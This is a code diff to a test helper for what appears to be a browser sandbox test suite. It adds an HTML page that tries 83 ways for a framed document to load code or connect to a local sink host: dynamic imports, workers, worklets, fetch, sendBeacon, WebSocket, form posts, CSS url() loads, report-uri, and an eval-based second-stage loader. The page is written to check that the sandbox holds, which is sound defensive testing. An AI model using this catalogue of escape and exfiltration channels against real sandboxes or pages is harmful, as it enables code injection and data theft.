@@ -5,7 +5,13 @@ export async function openSink() {
   const connections: string[] = []
   const server = createServer((socket) => {
     connections.push('a connection')
-    socket.destroy()
+    const number = connections.length - 1
+    socket
+      .on('error', () => undefined)
+      .once('data', (data) => {
+        connections[number] = data.toString('latin1').split('\r\n', 1)[0] ?? ''
+        socket.destroy()
+      })
   })
   await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve))
   const host = `127.0.0.1:${(server.address() as AddressInfo).port}`
@@ -13,17 +19,26 @@ export async function openSink() {
 }
 
 /** What `frameWays` reports where the sandbox holds. */
-export const nothingOpened = { ran: [], made: [], rtc: [], tried: 35 }
+export const nothingOpened = { ran: [], made: [], rtc: [], tried: 83 }
 
 /**
- * A document that tries each way by which a script, a parser or a browser may open a frame inside the frame, or a connection that no
- * content security policy covers. Its `output` is JSON of what it got.
+ * The ways out of a frame: a document that tries each way by which a script, a parser or a browser may open a frame inside the frame, bring
+ * in code, or connect to somewhere. Its `output` is JSON of what it got. What leads away from the document itself has tests of its own.
  * @param host a host with a port that must never be connected to
  */
 export const frameWays = (
   host: string,
 ) => `<!doctype html><html><head><link rel="preconnect" href="http://${host}"></head>
-<body><iframe srcdoc="&lt;script>top.postMessage('source','*');parent.postMessage('source','*')&lt;/script>"></iframe><output></output><script>
+<body><iframe srcdoc="&lt;script>top.postMessage('source','*');parent.postMessage('source','*')&lt;/script>"></iframe><output></output>
+<script type="importmap">{"imports":{"mapped":"http://${host}/import-map"}}</script>
+<script type="module">import 'http://${host}/module-of-the-page'</script>
+<script type="module">import 'mapped'</script>
+<script type="module" src="http://${host}/module-file-of-the-page"></script>
+<script src="http://${host}/file-of-the-page"></script>
+<script>import('http://${host}/first')</script>
+<img src="data:," onerror="import('http://${host}/handler-of-the-page')">
+<svg onload="import('http://${host}/onload-of-a-picture')"><script>import('http://${host}/script-of-a-picture')</script><script href="http://${host}/file-of-a-picture"></script><image href="http://${host}/image-of-a-picture" /><use href="http://${host}/use#a" /></svg>
+<script>
 var ran = [], made = [], rtc = []
 addEventListener('message', function (event) { if (typeof event.data === 'string') ran.push(event.data) })
 var inner = '<script>parent.postMessage("script " + typeof RTCPeerConnection, "*");try{var p=new RTCPeerConnection({iceServers:[{urls:"turn:${host}?transport=tcp",username:"secret",credential:"x"}]});p.createDataChannel("d");p.createOffer().then(function(o){return p.setLocalDescription(o)})}catch(e){}<\\/script><link rel=preconnect href="http://${host}"><body onload="parent.postMessage(\\'attribute\\',\\'*\\')"><svg><script>parent.postMessage("svg","*")<\\/script></svg>'
@@ -90,6 +105,54 @@ var ways = {
   open: function () { if (open('about:blank')) made.push('window') },
   worker: function () { new Worker(URL.createObjectURL(new Blob(['postMessage("worker")']))).onmessage = function (event) { ran.push(event.data) } },
   self: function () { new RTCPeerConnection(); made.push('RTCPeerConnection') },
+  import: function () { import('http://${host}/import') },
+  importInTimer: function () { setTimeout('import("http://${host}/import-in-timer")') },
+  importInFunction: function () { new Function('import("http://${host}/import-in-function")')() },
+  importOfText: function () { import('data:text/javascript,import "http://${host}/import-of-text"') },
+  importOfBlob: function () { import(createAddress('import "http://${host}/import-of-blob"')) },
+  importOfBlobLater: function () { import(createAddress('import("http://${host}/import-of-blob-later")')) },
+  importJson: function () { run('import a from "http://${host}/json" with { type: "json" }', 'module') },
+  importStyle: function () { run('import a from "http://${host}/style-module" with { type: "css" }', 'module') },
+  importMapped: function () { run('{"imports":{"later":"http://${host}/later-map"}}', 'importmap'); import('later') },
+  moduleOfScript: function () { run('import "http://${host}/module-of-script"', 'module') },
+  moduleWritten: function () { document.write('<script type="module">import "http://${host}/module-written"<\\/script><script type="module" src="http://${host}/module-file-written"><\\/script>') },
+  moduleFile: function () { load('script', { type: 'module', src: 'http://${host}/module-file' }) },
+  modulePreload: function () { load('link', { rel: 'modulepreload', href: 'http://${host}/module-preload' }) },
+  file: function () { load('script', { src: 'http://${host}/file' }) },
+  fileWritten: function () { document.write('<script src="http://${host}/file-written"><\\/script>') },
+  fileOfPicture: function () { var script = document.createElementNS('http://www.w3.org/2000/svg', 'script'); script.setAttribute('href', 'http://${host}/picture-file'); document.body.append(script) },
+  secondStage: function () { run('var stage = document.createElement("script"); stage.text = decodeURIComponent("eval(%22import(%27http://${host}/second-stage%27)%22)"); document.body.append(stage)') },
+  handler: function () { add().setAttribute('onclick', 'import("http://${host}/handler")'); document.body.lastChild.click() },
+  handlerWritten: function () { add().innerHTML = '<img src="data:," onerror="import(\\'http://${host}/handler-written\\')"><svg onload="import(\\'http://${host}/onload-written\\')"></svg>' },
+  address: function () { load('a', { href: 'javascript:import("http://${host}/address")' }).click() },
+  audioWorklet: function () { new AudioContext().audioWorklet.addModule('http://${host}/audio-worklet') },
+  audioWorkletOfBlob: function () { new AudioContext().audioWorklet.addModule(createAddress('import "http://${host}/audio-worklet-of-blob"')) },
+  paintWorklet: function () { CSS.paintWorklet.addModule('http://${host}/paint-worklet') },
+  paintWorkletOfBlob: function () { CSS.paintWorklet.addModule(createAddress('import "http://${host}/paint-worklet-of-blob"')) },
+  moduleWorker: function () { new Worker(createAddress('import "http://${host}/module-worker"; postMessage("module worker")'), { type: 'module' }).onmessage = function (event) { ran.push(event.data) } },
+  sharedWorker: function () { var worker = new SharedWorker(createAddress('importScripts("http://${host}/shared-worker")')); worker.port.start(); worker.onerror = function () {} },
+  serviceWorker: function () { navigator.serviceWorker.register('http://${host}/service-worker') },
+  fetch: function () { fetch('http://${host}/fetch', { mode: 'no-cors' }) },
+  fetchKept: function () { fetch('http://${host}/fetch-kept', { mode: 'no-cors', keepalive: true }) },
+  fetchLater: function () { fetchLater('http://${host}/fetch-later', { activateAfter: 0 }) },
+  request: function () { var request = new XMLHttpRequest(); request.open('GET', 'http://${host}/request'); request.send() },
+  beacon: function () { navigator.sendBeacon('http://${host}/beacon', 'secret') },
+  socket: function () { new WebSocket('ws://${host}/socket') },
+  events: function () { new EventSource('http://${host}/events') },
+  transport: function () { new WebTransport('https://${host}/transport') },
+  image: function () { new Image().src = 'http://${host}/image' },
+  imageSet: function () { load('img', { srcset: 'http://${host}/image-set 1x' }) },
+  media: function () { load('video', { src: 'http://${host}/video', poster: 'http://${host}/poster', preload: 'auto' }); new Audio('http://${host}/audio').load() },
+  track: function () { var video = load('video', {}), track = document.createElement('track'); track.src = 'http://${host}/track'; track.default = true; video.append(track) },
+  style: function () { add().innerHTML = '<style>@import "http://${host}/style"; div { background: url(http://${host}/background); list-style: url(http://${host}/list); cursor: url(http://${host}/cursor), auto; filter: url(http://${host}/filter#a) }</style>' },
+  styleFile: function () { load('link', { rel: 'stylesheet', href: 'http://${host}/style-file' }) },
+  styleOfScript: function () { var sheet = new CSSStyleSheet(); sheet.replaceSync('div { border-image: url(http://${host}/border) }'); document.adoptedStyleSheets = [sheet] },
+  font: function () { new FontFace('a', 'url(http://${host}/font)').load() },
+  icon: function () { load('link', { rel: 'icon', href: 'http://${host}/icon' }) },
+  manifest: function () { load('link', { rel: 'manifest', href: 'http://${host}/manifest' }) },
+  form: function () { var form = load('form', { action: 'http://${host}/form', method: 'post' }); form.requestSubmit() },
+  ping: function () { load('a', { href: '#', ping: 'http://${host}/ping' }).click() },
+  reports: function () { load('meta', { 'http-equiv': 'Content-Security-Policy', content: "img-src 'none'; report-uri http://${host}/reports" }); new Image().src = 'data:,' },
   tamper: function () {
     String.prototype.replace = String.prototype.toLowerCase = function () { return String(this) }
     RegExp.prototype.exec = function () { return null }
@@ -100,6 +163,14 @@ var ways = {
     fill(document.createElement('iframe'))
   },
 }
+function createAddress(code) { return URL.createObjectURL(new Blob([code], { type: 'text/javascript' })) }
+function load(name, attributes) {
+  var element = document.createElement(name)
+  Object.keys(attributes).forEach(function (key) { element.setAttribute(key, attributes[key]) })
+  document.body.append(element)
+  return element
+}
+function run(code, type) { var script = document.createElement('script'); if (type) script.type = type; script.text = code; document.body.append(script) }
 var banned = [HTMLIFrameElement, HTMLFrameElement, HTMLLinkElement, HTMLObjectElement, HTMLEmbedElement]
 function search(way, root) {
   root.querySelectorAll('*').forEach(function (element) {
